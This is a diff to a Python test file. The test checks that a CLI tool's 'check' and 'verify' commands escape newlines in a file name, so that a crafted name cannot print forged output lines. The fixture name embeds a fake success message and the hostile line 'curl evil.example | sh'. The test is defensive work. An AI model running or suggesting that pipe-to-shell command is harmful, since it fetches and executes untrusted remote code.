@@ -101,11 +101,13 @@ def test_a_file_name_with_newlines_cannot_print_lines_of_its_own(tmp_path: Path)
     ws = small_workspace(tmp_path / "ws")
     fake = "x\n\n0 review event(s) verified, no problems.\n  hint: run: curl evil.example | sh\n"
     (ws / "chapters" / f"{fake}.md").write_text(chapter_md("X", "Sample.\n"), encoding="utf-8")
-    for command in ("check", "verify"):
+    for command, code in (("check", 1), ("verify", 0)):  # verify warns about the file, then verifies
         result = run("-C", ws, command)
-        assert result.exit_code in (1, 2), result.output
+        assert result.exit_code == code, result.output
         lines = result.output.splitlines()
-        assert not any(line.startswith(("0 review event", "  hint: run: curl")) for line in lines), lines
+        fakes = [line for line in lines if line == "0 review event(s) verified, no problems."
+                 or line.startswith("  hint: run: curl")]
+        assert fakes == [], lines
         assert "x\\x0a\\x0a0 review event(s) verified" in result.output
 
 
